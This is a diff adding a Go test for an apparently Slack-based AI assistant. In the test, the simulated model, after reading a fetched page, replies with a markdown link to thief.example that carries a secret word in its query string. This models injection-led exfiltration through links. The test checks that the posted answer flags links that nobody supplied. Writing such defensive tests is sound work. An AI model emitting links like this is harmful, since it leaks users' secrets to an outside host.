@@ -420,3 +420,27 @@ func TestSafeMode_UsefulWorkGoesOn(t *testing.T) {
 		}
 	}
 }
+
+// After foreign text the answer says where links lead that nobody gave; those of the page, and of people, need no word.
+func TestAnswer_NamesHostsOfLinksThatNobodyGave(t *testing.T) {
+	l := newLair(t)
+	given := l.feeds.URL() + "/more"
+	page := l.feeds.Serve("/links", html(`<p>See <a href="/more">more</a>.</p>`), "text/html")
+	smuggled := "[more](" + given + ") and [the source](https://thief.example/?q=" + secretWord + ")"
+	l.model.SetScript(func(r simmodel.Request) simmodel.Reply {
+		if strings.Contains(r.Asked(), "read") && len(r.Last().Results) == 0 {
+			return simmodel.Reply{Calls: []simmodel.Call{{Name: "web_fetch", Args: must(json.Marshal(map[string]string{"url": page}))}}}
+		}
+		return simmodel.Say(smuggled)
+	})
+	const note = "links that nobody gave lead to thief.example"
+	for words, want := range map[string]bool{"read " + page: true, "hello": false} {
+		said := l.slack.Mention(l.world.channel.ID, l.world.berit, words)
+		post, err := l.slack.WaitPost(deadline(t), l.world.channel.ID, func(p simslack.Post) bool {
+			return p.ThreadTS == said.TS && strings.Contains(p.Shown(), "the source")
+		})
+		if err != nil || strings.Contains(string(post.Blocks), note) != want || strings.Contains(string(post.Blocks), "lead to 127") {
+			t.Errorf("to %q: %s, %v", words, post.Blocks, err)
+		}
+	}
+}
